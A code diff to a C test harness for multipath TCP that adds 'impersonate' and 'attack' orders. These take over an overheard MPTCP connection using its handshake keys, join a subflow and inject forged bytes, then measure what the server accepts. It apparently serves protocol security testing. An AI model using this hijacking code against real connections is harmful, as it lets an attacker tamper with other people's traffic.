@@ -6,6 +6,11 @@
  *	join N ADDRESS			another subflow of connection N
  *	send N SUBFLOW BYTES		on that subflow; the echo comes on any
  *	close N
+ *	impersonate DIALECT CLIENT SERVER SENT RECEIVED
+ *					the client of a connection that was overheard: the keys
+ *					or tokens of its handshake, bytes of data since then
+ *	attack N ADDRESS SERVICE PORT BYTES
+ *					joins it and sends bytes that are not the client's
  */
 #include <arpa/inet.h>
 #include <poll.h>
@@ -113,12 +118,32 @@ static void answer_join(const struct subflow *subflow)
 	       subflow->flow.here_port);
 }
 
+/* NULL if an answer was given: then there is no such subflow. */
+static struct subflow *join(struct peer *peer, struct connection *connection,
+			    const struct flow *flow)
+{
+	struct subflow *subflow = connection_add_subflow(connection, flow, true);
+	struct mptcp_option syn;
+
+	if (!subflow) {
+		answer_failure("there are too many subflows");
+		return NULL;
+	}
+	subflow->reason = mptcp_join_offer(&connection->handshake, &subflow->join, &syn);
+	if (subflow->reason)
+		subflow->state = CLOSED;
+	else
+		subflow_connect(subflow, &syn);
+	if (wait_for(peer, is_joined, connection))
+		return subflow;
+	answer_failure("no answer to the join");
+	return NULL;
+}
+
 static void order_join(struct peer *peer, const char *words)
 {
 	struct connection *connection;
 	struct subflow *subflow;
-	struct mptcp_option syn;
-	enum mptcp_reason reason;
 	struct flow flow;
 	char from[32];
 	int id;
@@ -129,23 +154,13 @@ static void order_join(struct peer *peer, const char *words)
 	}
 	flow = connection->subflows[0]->flow;
 	flow.here_port = next_port++;
-	subflow = parse_address(from, &flow.here) ? connection_add_subflow(connection, &flow, true)
-						  : NULL;
-	if (!subflow) {
-		answer_failure("no such address, or too many subflows");
+	if (!parse_address(from, &flow.here)) {
+		answer_failure("join needs an IPv4 address");
 		return;
 	}
-	reason = mptcp_join_offer(&connection->handshake, &subflow->join, &syn);
-	if (reason) {
-		subflow->state = CLOSED;
-		subflow->reason = reason;
-	} else {
-		subflow_connect(subflow, &syn);
-	}
-	if (wait_for(peer, is_joined, connection))
+	subflow = join(peer, connection, &flow);
+	if (subflow)
 		answer_join(subflow);
-	else
-		answer_failure("no answer to the join");
 }
 
 static size_t awaited;
@@ -216,6 +231,64 @@ static void order_close(struct peer *peer, const char *words)
 	connection_free(connection);
 }
 
+static void order_impersonate(struct peer *peer, const char *words)
+{
+	unsigned long long client_value, server_value, sent, received;
+	struct connection *connection;
+	unsigned int dialect;
+
+	if (sscanf(words, "%u %llx %llx %llu %llu", &dialect, &client_value, &server_value, &sent,
+		   &received) != 5 ||
+	    dialect >= MPTCP_DIALECTS) {
+		answer_failure("impersonate needs a dialect, two values, and two sizes");
+		return;
+	}
+	connection =
+		attacker_impersonate(peer, dialect, client_value, server_value, sent, received);
+	printf("{\"connection\": %d}\n", connection->id);
+}
+
+static bool is_hijacked(struct connection *connection)
+{
+	return connection_is_over(connection) ||
+	       (!fifo_length(&connection->out) && connection->acknowledged == connection->sent &&
+		connection->subflows[0]->received);
+}
+
+/* The server acknowledges data only when it has put it into the stream. */
+static void attack(struct peer *peer, struct connection *connection, const struct flow *flow,
+		   size_t size)
+{
+	uint64_t before = connection->acknowledged;
+	const struct subflow *subflow = join(peer, connection, flow);
+
+	if (!subflow)
+		return;
+	for (size_t i = 0; i < size; i++)
+		fifo_put(&connection->out, "!", 1);
+	wait_for(peer, is_hijacked, connection);
+	printf("{\"joined\": %s, \"taken\": %llu, \"heard\": %llu}\n",
+	       subflow->state == ESTABLISHED ? "true" : "false",
+	       (unsigned long long)(connection->acknowledged - before),
+	       (unsigned long long)subflow->received);
+}
+
+static void order_attack(struct peer *peer, const char *words)
+{
+	struct flow flow = { .here_port = next_port++ };
+	struct connection *connection;
+	char from[32], to[32];
+	size_t size;
+	int id;
+
+	if (sscanf(words, "%d %31s %31s %hu %zu", &id, from, to, &flow.there_port, &size) != 5 ||
+	    !(connection = find(peer, id)) || !parse_address(from, &flow.here) ||
+	    !parse_address(to, &flow.there))
+		answer_failure("attack needs a connection, two addresses, a port and a size");
+	else
+		attack(peer, connection, &flow, size);
+}
+
 static const struct {
 	const char *word;
 	void (*obey)(struct peer *peer, const char *words);
@@ -224,6 +297,8 @@ static const struct {
 	{ "join ", order_join },
 	{ "send ", order_send },
 	{ "close ", order_close },
+	{ "impersonate ", order_impersonate },
+	{ "attack ", order_attack },
 };
 
 static void obey(struct peer *peer, const char *line)
@@ -233,7 +308,7 @@ static void obey(struct peer *peer, const char *line)
 			orders[i].obey(peer, line + strlen(orders[i].word));
 			return;
 		}
-	answer_failure("an order is one of open, join, send, close");
+	answer_failure("there is no such order");
 }
 
 /* Connections go on while there is no order. */
